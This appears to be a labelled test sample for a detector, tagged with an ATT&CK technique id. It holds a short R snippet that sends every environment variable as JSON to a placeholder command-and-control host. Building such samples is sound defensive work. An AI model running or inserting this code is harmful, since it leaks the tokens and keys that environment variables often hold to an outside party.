# expect: environment-sent-away | source: T1552.001
library(httr2)
request("https://c2.example.invalid/") |>
  req_body_json(as.list(Sys.getenv())) |>
  req_perform()
